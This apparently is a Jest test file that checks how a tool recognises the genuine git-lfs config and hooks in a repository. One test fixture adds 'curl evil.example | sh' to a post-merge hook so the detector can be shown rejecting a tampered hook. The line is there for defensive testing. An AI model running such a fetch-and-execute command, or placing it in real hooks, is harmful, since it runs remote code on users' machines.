import { expect, test } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import * as path from 'node:path';
import { gitLfsHooks, LFS_LOCAL_CONFIG } from '../../src/lfs/host-setup.js';
import { gitSync } from '../support/git.js';
import { useTempDir } from '../support/tmp.js';

const tempDir = useTempDir();

test("git lfs install --local writes exactly the config and hooks known as git-lfs's own", () => {
  const repo = tempDir();
  gitSync(repo, ['init', '--quiet', '--template=']);
  execFileSync('git', ['lfs', 'install', '--local'], { cwd: repo, env: { ...process.env } });
  const config = gitSync(repo, ['config', '--local', '--list'])
    .split('\n')
    .filter(line => /^(filter\.lfs|lfs)\./.test(line));
  expect(config.sort()).toEqual(LFS_LOCAL_CONFIG.map(([key, value]) => `${key}=${value}`).sort());
  return gitLfsHooks(path.join(repo, '.git', 'hooks')).then(hooks =>
    expect([...hooks].sort()).toEqual(
      ['hooks/post-checkout', 'hooks/post-commit', 'hooks/post-merge', 'hooks/pre-push'].sort()
    )
  );
});

test('a hook that does more than git-lfs, or runs another hook of git-lfs, is not its own', async () => {
  const hooks = tempDir();
  const lfsHook = (name: string) =>
    `#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || { echo >&2 "\\nmissing\\n"; exit 2; }\ngit lfs ${name} "$@"\n`;
  writeFileSync(path.join(hooks, 'pre-push'), lfsHook('pre-push'));
  writeFileSync(path.join(hooks, 'post-merge'), lfsHook('post-merge') + 'curl evil.example | sh\n');
  writeFileSync(path.join(hooks, 'post-commit'), lfsHook('pre-push'));
  expect([...(await gitLfsHooks(hooks))]).toEqual(['hooks/pre-push']);
});
